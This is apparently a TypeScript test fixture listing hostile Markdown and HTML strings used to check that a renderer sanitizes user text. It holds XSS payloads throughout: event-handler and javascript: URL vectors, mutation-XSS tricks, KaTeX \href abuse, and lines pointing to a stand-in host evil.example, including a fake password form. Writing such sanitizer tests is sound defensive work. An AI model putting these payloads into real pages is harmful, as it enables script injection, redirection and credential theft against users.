/** Texts that run scripts if a page inserts them as markup. A script that runs sets `window.ran`. */

/** Hostile Markdown texts. Render each alone, because an unclosed element would hide the next text. */
export const hostileMarkdown: readonly string[] = [
  '<script>window.ran = true</script>',
  '<img src=x onerror="window.ran = true">',
  '<svg onload="window.ran = true"><circle/></svg>',
  '<svg><script>window.ran = true</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=true&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=true>',
  '<iframe src="javascript:window.ran = true"></iframe>',
  '<iframe srcdoc="<script>parent.ran = true</script>"></iframe>',
  '<object data="data:text/html,<script>parent.ran=true</script>"></object>',
  '<embed src="javascript:window.ran=true">',
  '<a href="javascript:window.ran = true">x</a>',
  '<a href="java&#x09;script:window.ran = true">x</a>',
  '[x](javascript&colon;window.ran=true)',
  '<a href="data:text/html,<script>1</script>">x</a>',
  '<details open ontoggle="window.ran = true">x</details>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><input name=password><button>Log in</button></form>',
  '<div style="position:fixed;inset:0">x</div>',
  '<p class="mantine-Overlay-root" id="root" name="cookie">x</p>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<template><img src=x onerror="window.ran=true"></template>',
  '<noscript><p title="</noscript><img src=x onerror=window.ran=true>">',
  '<span data-math="inline">\\href{javascript:window.ran=true}{x}</span>',
  '$\\href{javascript:window.ran=true}{x}$',
  '$\\htmlStyle{position:fixed}{x}$ $\\htmlClass{evil}{x}$ $\\includegraphics{x.png}$',
  '::: spoiler <img src=x onerror="window.ran=true">\n<img src=x onerror="window.ran=true">\n:::',
  '::: spoiler </summary></details><svg onload="window.ran=true">\n</details><script>window.ran=true</script>',
  '```<img src=x onerror=window.ran=true>\n<b onclick=x>\n```',
  '```"onmouseover=window.ran=true x="\n1\n```',
];

/** Hostile line for names, titles and other one-line texts. */
export const hostileLine =
  'Evil "><img src=x onerror="window.ran = true"><svg onload=\'window.ran = true\'></svg>' +
  '<script>window.ran = true</script>{{window.ran}}[x](javascript:window.ran=true)';
